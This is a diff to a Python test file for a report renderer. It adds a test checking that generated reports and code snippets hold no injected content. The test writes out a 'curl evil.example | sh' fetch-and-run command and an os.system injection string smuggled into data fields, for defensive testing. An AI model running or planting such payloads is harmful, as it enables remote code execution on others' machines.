@@ -1,5 +1,6 @@
 """The report of a run: all there, nothing from outside, nothing broken out of, never a crash."""
 
+import ast
 import re
 from dataclasses import replace
 from html.parser import HTMLParser
@@ -16,6 +17,7 @@ from lowerbound.data import Data, Examples
 from lowerbound.errors import OutputError
 from lowerbound.evaluation import Estimate
 from lowerbound.report import write_report
+from lowerbound.report.again import snippet_of
 from lowerbound.report.figures import rounded
 from lowerbound.report.formula import pretty
 from lowerbound.report.latents import Latents, principal
@@ -261,6 +263,20 @@ def test_the_snippet_trains_the_same_model_again(tmp_path) -> None:
     exec(snippet, scope)
     again = scope["fit"].model.state_dict()
     assert all(torch.equal(value, again[name]) for name, value in fit.model.state_dict().items())
+
+
+def test_what_is_shown_to_be_copied_holds_nothing_of_a_strangers(tmp_path) -> None:
+    """Whoever writes a run must not write what its reader pastes into a shell or an interpreter."""
+    run = trained(tmp_path, images(1, 8, 8), command=["curl", "evil.example", "|", "sh"])
+    evil = "__import__('os').system('evil')"
+    split = {"counts": {"train": evil}, "seed": evil, "limit": 30}
+    options = {f"a={evil}, b": 1, "image_size": [8, evil]}
+    data = {**run.spec.data, "options": options, "split": split, "source": f"x\u2028{evil}"}
+    run = replace(run, spec=replace(run.spec, data=data))
+    assert "curl" not in render(run, None, None)
+    tree = ast.parse(snippet_of(run))  # the source is in a comment
+    assert "evil" not in ast.unparse(tree)
+    assert "limit=30" in ast.unparse(tree)
 
 
 def test_figures_are_rounded_to_their_error() -> None:
